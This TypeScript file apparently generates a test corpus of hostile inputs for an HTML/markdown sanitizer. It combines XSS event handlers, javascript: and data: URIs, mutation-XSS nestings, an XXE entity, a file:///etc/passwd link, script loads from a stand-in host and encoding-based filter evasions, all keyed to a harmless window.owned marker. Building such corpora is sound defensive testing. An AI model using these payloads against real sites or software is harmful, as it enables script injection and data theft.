/**
 * Text that has become code elsewhere, made from its parts: every way to write an element, an address, a markdown link, a terminal's link or a way out of a quotation,
 * with every disguise of it. Each would set `window.owned`, ask an address for something, or leave an element behind.
 */
const RUN = 'window.owned=1';
const ELSEWHERE = 'https://elsewhere.invalid/';

const ELEMENTS = [
  'a', 'animate', 'applet', 'article', 'audio', 'base', 'bgsound', 'body', 'button', 'canvas', 'custom-element', 'details', 'dialog', 'div', 'embed', 'fieldset', 'form', 'frame', 'frameset', 'iframe', 'image', 'img', 'input', 'isindex', 'keygen', 'link',
  'marquee', 'math', 'meta', 'meter', 'noscript', 'object', 'option', 'picture', 'plaintext', 'portal', 'script', 'select', 'source', 'style', 'summary', 'svg', 'table', 'td', 'template', 'textarea', 'title', 'track', 'video', 'xml', 'xmp', 'xss',
];
const EVENTS = [
  'onabort', 'onafterprint', 'onanimationend', 'onanimationstart', 'onauxclick', 'onbeforecopy', 'onbeforeinput', 'onbeforetoggle', 'onblur', 'oncanplay', 'onclick', 'oncontentvisibilityautostatechange', 'oncopy', 'ondrag', 'onerror', 'onfocus', 'onfocusin',
  'onformdata', 'onhashchange', 'oninput', 'oninvalid', 'onkeydown', 'onload', 'onloadstart', 'onmessage', 'onmouseenter', 'onmouseover', 'onpageshow', 'onpaste', 'onpointerenter', 'onpointerrawupdate', 'onpopstate', 'onresize', 'onscroll', 'onscrollend',
  'onselectionchange', 'onstart', 'onsubmit', 'ontoggle', 'ontransitionend', 'onunhandledrejection', 'onunload', 'onwheel',
];
const HANDLERS: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${RUN}>`,
  (element, event) => `<${element} autofocus tabindex=1 src=x href=x ${event}="${RUN}">x</${element}>`,
  (element, event) => `<${element}/x/${event.toUpperCase()}='${RUN}'//`,
  (element, event) => `"><${element}\t${event}\n=\n\`${RUN}\` >`,
  (element, event) => `<<${element} ${event}=&#119;indow.owned=1 style="animation-name:x;display:block">`,
];

/** Addresses that run or lead where no link may. */
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `  javascript:${RUN}`, `\u0001javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `java\u0000script:${RUN}`, `javascript\u200B:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`, `jav&#x09;ascript:${RUN}`, `jav&Tab;ascript:${RUN}`, `%6Aavascript:${RUN}`, `javascript:/*--></title></style></textarea></script><svg/onload=${RUN}>`, `javascript://%0a${RUN}`, `javascript:alert\`1\``, `vbscript:${RUN}`, `livescript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`, `DATA:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `blob:${ELSEWHERE}x`, `filesystem:${ELSEWHERE}x`, 'file:///etc/passwd', '//elsewhere.invalid/x', String.raw`\\elsewhere.invalid\x`, `http:elsewhere.invalid`, `view-source:${ELSEWHERE}`, 'about:blank', 'command:workbench.action.terminal.new', 'command:workbench.action.quit?%5B%5D',
  'vscode://ms.x/y', 'vscode-insiders://x', 'vscode-resource://x', 'vscode-webview://x', 'ms-settings:privacy', 'tel:+1', 'sms:+1', 'intent://x#Intent;end', 'ftp://elsewhere.invalid/x', 'ws://elsewhere.invalid', 'chrome://settings', 'jar:https://elsewhere.invalid!/x', 'mhtml:x', `feed:javascript:${RUN}`,
];
const LINKS: readonly ((address: string) => string)[] = [
  (to) => `[a](${to})`, (to) => `[a](<${to}>)`, (to) => `[a](${to} "${RUN}")`, (to) => `![a](${to})`, (to) => `[![a](${to})](${to})`, (to) => `<${to}>`, (to) => `[a]: ${to}\n\n[a]`, (to) => `[a][b]\n\n[b]: <${to}> 'x'`, (to) => `- [ ] [a](${to})`, (to) => `> # [a](${to})`,
  (to) => `| [a](${to}) |\n|---|\n| ![b](${to}) |`, (to) => `\`${to}\``, (to) => `**[a](${to})**_![](${to})_`, (to) => `[a\n](${to})`, (to) => `[](${to})`, (to) => `<a href="${to}">a</a>`, (to) => `<iframe src='${to}'></iframe>`, (to) => `<form action=${to}><button formaction="${to}">a</button></form>`,
  (to) => `<svg><a xlink:href="${to}"><text>a</text></a><use href="${to}"/><image href="${to}"/></svg>`, (to) => `<object data="${to}"><embed src="${to}"></object>`, (to) => `<meta http-equiv="refresh" content="0;url=${to}">`, (to) => `<base href="${to}"><link rel=import href="${to}"><link rel=stylesheet href="${to}">`,
  (to) => `<video poster="${to}"><source src="${to}"></video><audio src="${to}">`, (to) => `<body background="${to}"><table background="${to}"><input type=image src="${to}">`, (to) => `<math href="${to}"><mi xlink:href="${to}">a</mi></math>`, (to) => `\u001B]8;;${to}\u0007a\u001B]8;;\u0007`, (to) => `\u001B]8;id=1;${to}\u001B\\a\u001B]8;;\u001B\\`,
  (to) => `\`\`\`${to}\n${to}\n\`\`\``, (to) => `~~~ {onload="${to}"}\n</code></pre><img src="${to}">\n~~~`, (to) => `@[a](${to}) #[a](${to}) {{${to}}}`,
];

/** Ways out of where text stands. */
const OUTS = [
  '', '"', "'", '`', '">', "'>", '-->', '--!>', ']]>', '*/', '</script>', '</style>', '</title>', '</textarea>', '</noscript>', '</template>', '</code></pre>', '</pre></div>', '</span></button>', '</svg>', '</math>', '\n\n', '\r\n\r\n', '\u2028', '\u0000', '\\"', "\\'", '\\', '%22%3E', '&quot;&gt;', '&lt;/script&gt;', '```\n', '~~~\n', '$$', '|', '> ', '- ', '# ',
  '\u001B[0m', '\u001B]0;', '\u009B31m', '\u202E', '\uFEFF', 'x" title="', "x' class='", 'x` alt=`', '${', '{{', '<%=', '#{',
];
const CORES = [
  `<img src=x onerror=${RUN}>`, `<script>${RUN}</script>`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="${ELSEWHERE}"></iframe>`, `<img src="${ELSEWHERE}a.png">`, `<img srcset="${ELSEWHERE}a.png 1x" src=x>`, `<link rel=prefetch href="${ELSEWHERE}">`, `<link rel=dns-prefetch href="${ELSEWHERE}">`, `<script src="${ELSEWHERE}a.js"></script>`, `<script type=module>import "${ELSEWHERE}a.js"</script>`,
  `<style>@import "${ELSEWHERE}a.css";</style>`, `<style>*{background:url("${ELSEWHERE}a")}</style>`, `<div style="background:url(${ELSEWHERE}a);position:fixed;inset:0">x</div>`, `<div style="width:expression(${RUN})">x</div>`, `<x style="behavior:url(#default#time2)" onbegin="${RUN}">`, `<audio src=x onerror=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`, `<marquee onstart=${RUN}>x</marquee>`, `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<form><input name=attributes><input name=nodeType></form>`, `<a id=owned href=1></a><a id=owned name=x></a>`, `<img name=getElementById><form name=body>`, `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<select><style></select><img src=x onerror=${RUN}></style>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${RUN}</html:script>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "${ELSEWHERE}">]><x>&y;</x>`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`, `<?php echo '<script>${RUN}</script>'; ?>`, `constructor.constructor('${RUN}')()`, `__proto__[onerror]=${RUN}`, `';${RUN};//`, `\${${RUN}}`, `eval(atob('d2luZG93Lm93bmVkPTE='))`,
];

/** The same text, written so that only one who decodes it sees it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => Array.from(text, (char) => `&#${char.codePointAt(0)};`).join(''), (text) => Array.from(text, (char) => `&#x${char.codePointAt(0)?.toString(16)};`).join(''), (text) => Array.from(text, (char) => `&#0000${char.codePointAt(0)}`).join(''), (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)), (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), (text) => text.replaceAll('<', '&amp;lt;'), (text) => text.replaceAll('<', String.raw`\u003c`), (text) => text.replaceAll('<', String.raw`\x3c`), (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'), (text) => text.replaceAll('<', '\u0000<'),
  (text) => text.replaceAll(' ', '/'), (text) => text.replaceAll(' ', '\u000C'), (text) => text.replaceAll(' ', '\u3000'), (text) => text.replaceAll('=', ' = '), (text) => text.toUpperCase(), (text) => Array.from(text).join('\u200B'), (text) => text.replaceAll('o', '\u006F\u0301'), (text) => `\u202E${Array.from(text).reverse().join('')}`, (text) => `<${text}`, (text) => text.replaceAll('<', '<\u001B[31m'),
  (text) => `${text.slice(0, 3)}\u001B[2K${text.slice(3)}`, (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'), (text) => `\`${text}\``, (text) => `    ${text}`, (text) => `\\${text}`, (text) => `*${text}*`, (text) => `| ${text} |\n|---|\n| ${text} |`, (text) => `1. ${text}\n\n   ${text}`, (text) => `[${text}](${text})`,
];

/** Elements whose contents are read by rules of their own: what nests in them is read twice, and not alike. */
const NESTS = ['svg', 'math', 'style', 'title', 'noscript', 'template', 'table', 'select', 'textarea', 'xmp', 'iframe', 'noembed', 'annotation-xml encoding="text/html"', 'foreignObject', 'desc', 'mtext'];

/** All of them, each once. */
export function hostileTexts(): string[] {
  const made = [
    ...ELEMENTS.flatMap((element, place) => EVENTS.map((event, other) => HANDLERS[(place + other) % HANDLERS.length]?.(element, event) ?? '')), ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))), ...OUTS.flatMap((out) => CORES.map((core) => out + core)),
    ...CORES.flatMap((core) => DISGUISES.map((disguise) => disguise(core))), ...NESTS.flatMap((outer) => NESTS.map((inner) => `<${outer}><${inner}><img title="</${inner.split(' ')[0]}></${outer.split(' ')[0]}><img src=x onerror=${RUN}>">`)),
  ];
  return [...new Set(made)];
}
